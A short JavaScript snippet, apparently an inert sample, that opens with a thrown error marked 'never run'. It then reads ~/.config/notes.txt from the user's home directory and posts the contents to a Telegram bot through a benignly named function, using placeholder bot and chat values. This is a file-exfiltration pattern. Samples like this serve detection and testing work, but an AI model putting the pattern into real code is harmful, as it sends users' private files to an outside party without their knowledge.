throw new Error("inert sample: never run");
const fs = require("fs");
const BOT = "000000000:PLACEHOLDERPLACEHOLDERPLACEHOLDER000";
const CHAT = "-1000000000000";

async function keep() {
  const text = fs.readFileSync(`${process.env.HOME}/.config/notes.txt`, "utf8");
  await fetch(`https://api.telegram.org/bot${BOT}/sendMessage`, {
    method: "POST",
    headers: { "content-type": "application/json" },
    body: JSON.stringify({ chat_id: CHAT, text }),
  });
}
keep();
